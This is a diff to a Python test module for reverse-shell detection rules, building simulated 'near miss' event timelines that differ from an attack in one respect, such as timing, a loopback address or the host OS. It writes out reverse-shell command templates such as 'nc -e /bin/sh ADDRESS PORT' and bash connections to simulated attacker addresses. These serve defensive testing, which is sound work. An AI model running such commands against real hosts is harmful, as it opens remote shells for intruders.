@@ -1,4 +1,4 @@
-"""Near misses: what differs from an attack in one thing only, and must match neither rule."""
+"""Near misses: activities that differ from an attack in one respect and match neither rule."""
 
 from __future__ import annotations
 
@@ -32,90 +32,74 @@ def _soon(line: Timeline) -> None:
     line.wait(3_000, 900_000)
 
 
-def _opener(line: Timeline, remote: Endpoint) -> Process:
-    """A shell that is about to connect, started as in the attacks."""
+def _opener(line: Timeline, remote: Endpoint | None = None) -> tuple[Process, Endpoint]:
+    """A shell that is about to connect, started as in the attacks, and the address: an attacker's by default."""
+    remote = attacker(line.rng) if remote is None else remote
     process = line.run(way_in(line), SampleProgram("/usr/bin/bash", ("bash", "-c", to_address(BASH, remote))))
     line.wait(1_000, 60_000)
-    return process
+    return process, remote
+
+
+def _connected(line: Timeline) -> tuple[Process, str]:
+    """A shell that has connected, and the id of the connection's event."""
+    opener, remote = _opener(line)
+    return opener, line.connect(opener, remote)
 
 
 # A shell connects, then starts a shell: but not quite.
 
 
-def shell_too_late(scene: Scene) -> Pair:
-    """The second shell starts a millisecond after the span."""
-    line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
-    line.now += TOO_LATE
-    child = line.fork(opener)
-    second = line.steps[-1].event_id
-    look_around(line, child)
-    return first, second
-
-
-def shell_to(scene: Scene, *, address: str) -> Pair:
-    """The shell connects to an address that the rule leaves out."""
-    line = scene.here
-    remote = Endpoint("", address, 5432)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
-    _soon(line)
-    line.fork(opener)
-    return first, line.steps[-1].event_id
-
-
-def shell_event(
-    scene: Scene, *, action: str = "connection_attempted", types: tuple[str, ...] = ("start",), lacks: bool = False
+def shell(
+    scene: Scene,
+    *,
+    address: str = "",
+    action: str = "connection_attempted",
+    types: tuple[str, ...] = ("start",),
+    lacks: bool = False,
+    elsewhere: bool = False,
+    too_late: bool = False,
 ) -> Pair:
-    """The network event has another action or type, or lacks the destination."""
+    """An attack but for one difference: the address, action or type of the connection, its missing destination, a
+    second shell with the same parent entity id on another host, or one that starts after the maxspan."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
+    opener, remote = _opener(line, Endpoint("", address, 5432) if address else None)
     first = line.add_connection(opener, action, types=list(types), remote=remote, without_destination=lacks)
-    _soon(line)
-    line.fork(opener)
-    return first, line.steps[-1].event_id
-
-
-def shell_on_other_host(scene: Scene) -> Pair:
-    """The second shell has the right parent by its entity id, on another host."""
-    line, other = scene.here, scene.elsewhere
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
-    _soon(line)
+    if too_late:
+        line.now += TOO_LATE
+    else:
+        _soon(line)
+    other = scene.elsewhere if elsewhere else line
     other.now = line.now
-    other.fork(opener)
-    return first, other.steps[-1].event_id
+    child = other.fork(opener)
+    second = other.last_id
+    if too_late:
+        look_around(line, child)
+    return first, second
 
 
 def shell_of_other_parent(scene: Scene) -> Pair:
     """The second shell is a child of another shell."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
+    opener, remote = _opener(line)
     bystander = line.run(line.rng.choice(line.machine.sessions), SampleProgram("/usr/bin/bash", ("bash", "-l")))
     first = line.connect(opener, remote)
     _soon(line)
     line.fork(bystander)
-    return first, line.steps[-1].event_id
+    return first, line.last_id
 
 
 def shell_before(scene: Scene) -> Pair:
     """The second shell starts before the connection."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
+    opener, remote = _opener(line)
     line.fork(opener)
-    second = line.steps[-1].event_id
+    second = line.last_id
     _soon(line)
     return line.connect(opener, remote), second
 
 
 def shell_on_windows(scene: Scene) -> Pair:
-    """All of it happens on a Windows host."""
+    """Both stages happen on a Windows host."""
     line = scene.windows
     remote = attacker(line.rng)
     path = "C:\\cygwin64\\bin\\bash"
@@ -129,16 +113,14 @@ def shell_on_windows(scene: Scene) -> Pair:
 def shell_child(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
     """The process event has another action or type, or lacks a field of the parent."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     _soon(line)
     child = line.machine.begin(SHELL, opener.user, at=line.now, parent=opener)
     return first, line.add_process(child, action, types=list(types), lacking=lacks)
 
 
 def other_program_connects(scene: Scene) -> Pair:
-    """What connects is a script in another language, which becomes a shell only then."""
+    """A script in another language connects, and executes a shell only afterwards."""
     line = scene.here
     remote = attacker(line.rng)
     opener = line.run(way_in(line), SampleProgram("/usr/bin/ruby", ("ruby", "/tmp/open.rb")))
@@ -148,74 +130,75 @@ def other_program_connects(scene: Scene) -> Pair:
     line.execute(opener, SHELL)
     _soon(line)
     child = line.fork(opener)
-    second = line.steps[-1].event_id
+    second = line.last_id
     look_around(line, child)
     return first, second
 
 
 def other_program_starts(scene: Scene) -> Pair:
-    """What the shell starts is no shell."""
+    """The program that the shell starts is no shell."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     _soon(line)
-    child = line.spawn(opener, SampleProgram("/usr/bin/rsync", ("rsync", "-a", "/srv/data/", "/mnt/usb/")))
-    second = line.steps[-1].event_id
+    child = line.spawn(opener, line.words.program("/usr/bin/rsync rsync -a /srv/data/ /mnt/usb/"))
+    second = line.last_id
     line.end(child)
     return first, second
 
 
 def shell_became_other(scene: Scene) -> Pair:
-    """The shell runs another program by the time that it starts a shell."""
+    """The shell has executed another program before it starts a shell."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     line.wait(900, 9_000)
-    line.execute(opener, SampleProgram("/usr/bin/script", ("script", "-q", "/dev/null")))
+    line.execute(opener, line.words.program("/usr/bin/script script -q /dev/null"))
     _soon(line)
     line.spawn(opener, SHELL)
-    return first, line.steps[-1].event_id
+    return first, line.last_id
 
 
 REVERSE_SHELL_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
-    ("1.001 s apart", shell_too_late),
-    ("loopback 127.0.0.1", partial(shell_to, address="127.0.0.1")),
-    ("other host, same entity id", shell_on_other_host),
+    ("1.001 s apart", partial(shell, too_late=True)),
+    ("loopback 127.0.0.1", partial(shell, address="127.0.0.1")),
+    ("other host, same entity id", partial(shell, elsewhere=True)),
     ("other entity", shell_of_other_parent),
     ("wrong order", shell_before),
-    ("no destination.ip", partial(shell_event, lacks=True)),
+    ("no destination.ip", partial(shell, lacks=True)),
     ("Windows host", shell_on_windows),
     ("event.type end of the process", partial(shell_child, action="exec", types=("end",))),
     ("process.name not in the list of the first stage", other_program_connects),
     ("process.parent.name not in the list", shell_became_other),
-    ("disconnect_received", partial(shell_event, action="disconnect_received", types=("start", "end"))),
-    ("loopback ::1", partial(shell_to, address="::1")),
+    ("disconnect_received", partial(shell, action="disconnect_received", types=("start", "end"))),
+    ("loopback ::1", partial(shell, address="::1")),
     ("process.name not in the list of the second stage", other_program_starts),
-    ("event.action in another case", partial(shell_event, action="Connection_Attempted")),
-    ("event.type end of the connection", partial(shell_event, types=("end",))),
+    ("event.action in another case", partial(shell, action="Connection_Attempted")),
+    ("event.type end of the connection", partial(shell, types=("end",))),
     ("no process.parent.entity_id", partial(shell_child, action="exec", types=("start",), lacks="entity_id")),
     ("event.action uid_change", partial(shell_child, action="uid_change", types=("start",))),
-    ("event.type in another case", partial(shell_event, types=("Start",))),
+    ("event.type in another case", partial(shell, types=("Start",))),
 )
 
 
 # A utility starts, then connects: but not quite.
 
-PYTHON = ("python3", "-c", PYTHON_CALL)
-NC = ("nc", "-e", "/bin/sh", "ADDRESS", "PORT")
+PYTHON = "PYTHON python3 -c SCRIPT"
+NC = "/usr/bin/nc nc -e /bin/sh ADDRESS PORT"
 PYTHON_RUN = PYTHON_CALL.replace("subprocess.call(", "subprocess.run(")
 
 
+def _utility(line: Timeline, command: str, remote: Endpoint, *, script: str = PYTHON_CALL) -> tuple[Process, str]:
+    """A utility that is about to connect, started as in the attacks, and the id of its start."""
+    process = line.run(stager(line), utility(line, command, remote, script=script))
+    return process, line.last_id
+
+
 def utility_runs(
-    scene: Scene, *, path: str = "PYTHON", args: tuple[str, ...] = PYTHON, gap: int = 0, address: str = ""
+    scene: Scene, *, command: str = PYTHON, script: str = PYTHON_CALL, gap: int = 0, address: str = ""
 ) -> Pair:
-    """A utility starts and connects; its arguments, the address or the time between are not what the rule asks for."""
+    """A utility starts and connects, with other arguments, an excluded address or too long a gap."""
     line = scene.here
     remote = Endpoint("", address, 80) if address else attacker(line.rng)
-    process = line.run(stager(line), utility(line, path, args=args, remote=remote))
-    first = line.steps[-1].event_id
+    process, first = _utility(line, command, remote, script=script)
     if gap:
         line.now += gap
     else:
@@ -227,15 +210,22 @@ def utility_runs(
 
 
 def utility_event(
-    scene: Scene, *, action: str = "connection_attempted", types: tuple[str, ...] = ("start",), lacks: bool = False
+    scene: Scene,
+    *,
+    command: str = NC,
+    action: str = "connection_attempted",
+    types: tuple[str, ...] = ("start",),
+    lacks: bool = False,
+    elsewhere: bool = False,
 ) -> Pair:
-    """The network event has another action or type, or lacks the destination."""
+    """The connection has another action or type, no destination, or the same entity id on another host."""
     line = scene.here
     remote = attacker(line.rng)
-    process = line.run(stager(line), utility(line, "/usr/bin/nc", args=NC, remote=remote))
-    first = line.steps[-1].event_id
+    process, first = _utility(line, command, remote)
     _soon(line)
-    return first, line.add_connection(process, action, types=list(types), remote=remote, without_destination=lacks)
+    other = scene.elsewhere if elsewhere else line
+    other.now = line.now
+    return first, other.add_connection(process, action, types=list(types), remote=remote, without_destination=lacks)
 
 
 def utility_start(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
@@ -243,54 +233,43 @@ def utility_start(scene: Scene, *, action: str, types: tuple[str, ...], lacks: s
     line = scene.here
     remote = attacker(line.rng)
     parent = stager(line)
-    program = utility(line, "/usr/bin/perl", args=("perl", "-e", PERL_EXEC), remote=remote)
+    program = utility(line, "/usr/bin/perl perl -e SCRIPT", remote, script=PERL_EXEC)
     process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
     first = line.add_process(process, action, types=list(types), lacking=lacks)
     _soon(line)
     return first, line.connect(process, remote)
 
 
-def utility_on_other_host(scene: Scene) -> Pair:
-    """The connection has the right entity id, on another host."""
-    line, other = scene.here, scene.elsewhere
-    remote = attacker(line.rng)
-    process = line.run(stager(line), utility(line, "PYTHON", args=PYTHON, remote=remote))
-    first = line.steps[-1].event_id
-    _soon(line)
-    other.now = line.now
-    return first, other.connect(process, remote)
-
-
 def utility_of_other_entity(scene: Scene) -> Pair:
-    """What connects is another process with the same program, run for something else."""
+    """Another process of the same parent connects, not the utility."""
     line = scene.here
     remote = attacker(line.rng)
     parent = stager(line)
     bystander = line.run(parent, SampleProgram("/usr/bin/ruby", ("ruby", "/srv/app/bin/sidekiq")))
-    line.run(parent, utility(line, "PYTHON", args=PYTHON, remote=remote))
-    first = line.steps[-1].event_id
+    line.run(parent, utility(line, PYTHON, remote, script=PYTHON_CALL))
+    first = line.last_id
     _soon(line)
     return first, line.connect(bystander, remote)
 
 
 def utility_connects_before(scene: Scene) -> Pair:
-    """The process connects, and only then becomes the utility."""
+    """The process connects, and executes the utility only afterwards."""
     line = scene.here
     remote = attacker(line.rng)
     process = line.run(stager(line), SampleProgram("/usr/bin/perl", ("perl", "/tmp/open.pl")))
     line.wait(2_000, 40_000)
     second = line.connect(process, remote)
     _soon(line)
-    return line.execute(process, utility(line, "/usr/bin/nc", args=NC, remote=remote)), second
+    return line.execute(process, utility(line, NC, remote)), second
 
 
 def utility_on_windows(scene: Scene) -> Pair:
-    """All of it happens on a Windows host."""
+    """Both stages happen on a Windows host."""
     line = scene.windows
     remote = attacker(line.rng)
     path = "C:\\Program Files\\Python312\\python.exe"
     parent = line.start(line.machine.sessions[0], SampleProgram(path, (path, "C:\\Temp\\stage.py")))
-    program = SampleProgram(path, tuple(to_address(part, remote) for part in PYTHON))
+    program = SampleProgram(path, ("python3", "-c", to_address(PYTHON_CALL, remote)))
     process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
     first = line.add_process(process, "exec", types=["start"])
     _soon(line)
@@ -298,11 +277,12 @@ def utility_on_windows(scene: Scene) -> Pair:
 
 
 def utility_of_service(scene: Scene) -> Pair:
-    """The utility is started by a service that the rule does not name."""
+    """A service that the rule does not name starts the utility."""
     line = scene.here
     remote = attacker(line.rng)
-    process = line.spawn(line.machine.services["cron"], utility(line, "PYTHON", args=PYTHON, remote=remote))
-    first = line.steps[-1].event_id
+    program = utility(line, PYTHON, remote, script=PYTHON_CALL)
+    process = line.spawn(line.machine.services["cron"], program)
+    first = line.last_id
     _soon(line)
     return first, line.connect(process, remote)
 
@@ -310,30 +290,24 @@ def utility_of_service(scene: Scene) -> Pair:
 CHILD_PROCESS_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
     ("1.001 s apart", partial(utility_runs, gap=TOO_LATE)),
     ("loopback 127.0.0.0/8", partial(utility_runs, address="127.8.9.1")),
-    ("other host, same entity id", utility_on_other_host),
+    ("other host, same entity id", partial(utility_event, command=PYTHON, elsewhere=True)),
     ("link-local 169.254.0.0/16", partial(utility_runs, address="169.254.169.254")),
     ("wrong order", utility_connects_before),
     ("no destination.ip", partial(utility_event, lacks=True)),
     ("Windows host", utility_on_windows),
-    (
-        "-z beside -e",
-        partial(utility_runs, path="/usr/bin/nc", args=("nc", "-z", "-e", "/bin/true", "ADDRESS", "PORT")),
-    ),
-    ("two arguments", partial(utility_runs, path="/usr/bin/telnet", args=("telnet", "ADDRESS"))),
-    (
-        "argument in another case",
-        partial(utility_runs, path="/usr/bin/nc", args=("nc", "-E", "/bin/sh", "ADDRESS", "PORT")),
-    ),
+    ("-z beside -e", partial(utility_runs, command="/usr/bin/nc nc -z -e /bin/true ADDRESS PORT")),
+    ("two arguments", partial(utility_runs, command="/usr/bin/telnet telnet ADDRESS")),
+    ("argument in another case", partial(utility_runs, command="/usr/bin/nc nc -E /bin/sh ADDRESS PORT")),
     ("process.parent.name not in the list", utility_of_service),
-    ("process.name not in the list", partial(utility_runs, path="/usr/bin/gawk", args=("gawk", AWK))),
+    ("process.name not in the list", partial(utility_runs, command="/usr/bin/gawk gawk SCRIPT", script=AWK)),
     ("disconnect_received", partial(utility_event, action="disconnect_received", types=("start", "end"))),
     ("other entity", utility_of_other_entity),
     ("multicast 224.0.0.0/4", partial(utility_runs, address="224.0.0.251")),
     ("loopback ::1", partial(utility_runs, address="::1")),
-    ("other arguments", partial(utility_runs, args=("python3", "-c", PYTHON_RUN))),
+    ("other arguments", partial(utility_runs, script=PYTHON_RUN)),
     ("event.type end of the process", partial(utility_start, action="exec", types=("end",))),
     ("event.action already_running", partial(utility_start, action="already_running", types=("start", "info"))),
     ("no process.parent.name", partial(utility_start, action="exec", types=("start",), lacks="name")),
     ("event.type end of the connection", partial(utility_event, types=("end",))),
-    ("perl of a version", partial(utility_runs, path="/usr/bin/perl5.36.0", args=("perl", "-e", PERL_EXEC))),
+    ("perl of a version", partial(utility_runs, command="/usr/bin/perl5.36.0 perl -e SCRIPT", script=PERL_EXEC)),
 )
